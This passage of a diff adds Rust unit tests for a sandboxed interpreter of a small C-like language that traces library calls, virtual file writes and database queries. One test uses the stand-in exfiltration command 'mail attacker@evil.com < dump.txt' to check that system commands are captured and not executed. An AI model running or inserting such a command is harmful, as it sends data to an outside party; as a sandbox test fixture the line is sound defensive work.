+    fn caller_is_recorded() {
+        let prog = parse_program(
+            "fn main() { helper(); }\nfn helper() { puts(\"x\"); }",
+        )
+        .unwrap();
+        let mut session = session_with_items();
+        let mut collector = TraceCollector::new();
+        run_program(
+            &prog,
+            &mut session,
+            &[],
+            &HashMap::new(),
+            &mut collector,
+            &ExecConfig::default(),
+        )
+        .unwrap();
+        assert_eq!(collector.events()[0].caller, "helper");
+    }
+
+    #[test]
+    fn labels_are_applied_dynamically() {
+        let prog = parse_program("fn main() { let x = \"v\"; printf(\"%s\", x); }").unwrap();
+        let mut labels = HashMap::new();
+        prog.for_each_call(|site, callee, _| {
+            if callee.name() == "printf" {
+                labels.insert(site, "printf_Q9".to_string());
+            }
+        });
+        let mut session = session_with_items();
+        let mut collector = TraceCollector::new();
+        run_program(
+            &prog,
+            &mut session,
+            &[],
+            &labels,
+            &mut collector,
+            &ExecConfig::default(),
+        )
+        .unwrap();
+        assert_eq!(collector.names(), vec!["printf_Q9"]);
+    }
+
+    #[test]
+    fn step_limit_stops_infinite_loop() {
+        let prog = parse_program("fn main() { while (1) { let x = 1; } }").unwrap();
+        let mut session = session_with_items();
+        let mut collector = TraceCollector::new();
+        let err = run_program(
+            &prog,
+            &mut session,
+            &[],
+            &HashMap::new(),
+            &mut collector,
+            &ExecConfig {
+                step_limit: 10_000,
+                ..ExecConfig::default()
+            },
+        )
+        .unwrap_err();
+        assert_eq!(err, RuntimeError::StepLimit);
+    }
+
+    #[test]
+    fn exit_terminates_program() {
+        let (names, outcome) = run(
+            "fn main() { puts(\"before\"); exit(0); puts(\"after\"); }",
+            &[],
+        );
+        assert_eq!(names, vec!["puts", "exit"]);
+        assert!(outcome.exited || outcome.stdout.contains("before"));
+        assert!(!outcome.stdout.contains("after"));
+    }
+
+    #[test]
+    fn file_writes_land_in_virtual_fs() {
+        let (_, outcome) = run(
+            r#"
+            fn main() {
+                let f = fopen("out.txt", "w");
+                fprintf(f, "value=%d", 42);
+                fputs("!", f);
+                fclose(f);
+            }
+            "#,
+            &[],
+        );
+        assert_eq!(outcome.files.get("out.txt").unwrap(), "value=42!");
+    }
+
+    #[test]
+    fn system_commands_are_captured() {
+        let (_, outcome) = run(
+            "fn main() { system(\"mail attacker@evil.com < dump.txt\"); }",
+            &[],
+        );
+        assert_eq!(outcome.system_commands.len(), 1);
+    }
+
+    #[test]
+    fn printf_formatting() {
+        assert_eq!(
+            format_printf("%s has %d items (%f%%)", &[
+                RtValue::Str("cart".into()),
+                RtValue::Int(3),
+                RtValue::Float(99.5)
+            ]),
+            "cart has 3 items (99.500000%)"
+        );
+        assert_eq!(format_printf("100%%", &[]), "100%");
+    }
+
+    #[test]
+    fn atoi_parses_prefix() {
+        assert_eq!(parse_prefix_int("42abc"), 42);
+        assert_eq!(parse_prefix_int("  -7"), -7);
+        assert_eq!(parse_prefix_int("x"), 0);
+    }
+
+    #[test]
+    fn user_function_return_value() {
+        let (_, outcome) = run(
+            r#"
+            fn main() { printf("%d", double(21)); }
+            fn double(x) { return x * 2; }
+            "#,
+            &[],
+        );
+        assert_eq!(outcome.stdout, "42");
+    }
+
+    #[test]
+    fn missing_table_degrades_gracefully() {
+        // A mutated program may query a table that does not exist; the run
+        // must produce an empty result set, not abort.
+        let (names, outcome) = run(
+            r#"
+            fn main() {
+                let r = PQexec(conn, "SELECT * FROM no_such_table");
+                let n = PQntuples(r);
+                printf("%d rows
+", n);
+                printf("%s", PQgetvalue(r, 0, 0));
+                mysql_query(conn, "SELECT * FROM also_missing");
+                let m = mysql_store_result(conn);
+                let row = mysql_fetch_row(m);
+                if (row == null) { puts("empty"); }
+            }
+            "#,
+            &[],
+        );
+        assert!(outcome.stdout.contains("0 rows"));
+        assert!(outcome.stdout.contains("empty"));
+        assert_eq!(names.iter().filter(|n| *n == "printf").count(), 2);
+    }
+
+    #[test]
+    fn scanf_consumes_inputs_in_order() {
+        let (_, outcome) = run(
+            r#"
+            fn main() {
+                let a = scanf();
+                let b = scanf();
+                printf("%s-%s", a, b);
+            }
+            "#,
+            &["first", "second"],
+        );
+        assert_eq!(outcome.stdout, "first-second");
+    }
+}
